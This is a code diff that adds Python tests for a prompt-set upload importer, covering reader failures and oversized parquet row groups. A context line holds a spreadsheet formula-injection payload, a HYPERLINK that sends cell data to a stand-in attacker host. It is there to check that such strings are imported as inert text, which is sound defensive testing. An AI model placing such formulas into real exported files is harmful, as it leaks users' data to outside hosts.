@@ -86,3 +86,34 @@ def test_formula_strings_are_ordinary_text_to_import(api, pam, upload_dir):
     assert prompt.external_id == "-1+1"
     assert prompt.text == '=HYPERLINK("http://evil.example/?"&A1,"click")'
     assert sorted(prompt.completions.values_list("text", flat=True)) == ["+1+1", "@SUM(A1:A9)"]
+
+
+def test_an_unforeseen_reader_failure_is_a_failed_prompt_set_not_a_500(api, pam, monkeypatch):
+    """Whatever breaks inside the reader, the upload ends failed with what broke, never "importing"."""
+    import annotations.importing as importing
+
+    def broken(stream, batch_size=2048):
+        raise MemoryError("out of memory")
+        yield  # pragma: no cover - a generator, like the real reader
+
+    monkeypatch.setattr(importing, "read_parquet", broken)
+    content = hostile.parquet_bytes({"prompt": ["fine"], "completions": [["a", "b"]]})
+    from django.core.files.uploadedfile import SimpleUploadedFile
+
+    response = api(pam).post(URL, {"file": SimpleUploadedFile("set.parquet", content)}, format="multipart")
+    assert response.status_code == 400
+    assert response.json()["errors"][0]["message"] == "the file could not be read (MemoryError); nothing was imported"
+    assert list(PromptSet.objects.values_list("status", flat=True)) == ["failed"]
+    assert Prompt.objects.count() == 0
+
+
+def test_parquet_row_groups_too_large_to_decode_are_refused_from_the_footer(monkeypatch):
+    import io
+
+    import annotations.importing as importing
+
+    monkeypatch.setattr(importing, "MAX_ROW_GROUP_BYTES", 1000)
+    content = hostile.parquet_bytes({"prompt": [f"prompt {i} " + "x" * 100 for i in range(100)]})
+    problems = [problem for _, _, problem in importing.read_parquet(io.BytesIO(content)) if problem]
+    assert [str(p) for p in problems][0].startswith("row group 1 holds ")
+    assert "at most 1,000 are allowed (write the file with smaller row groups)" in str(problems[0])
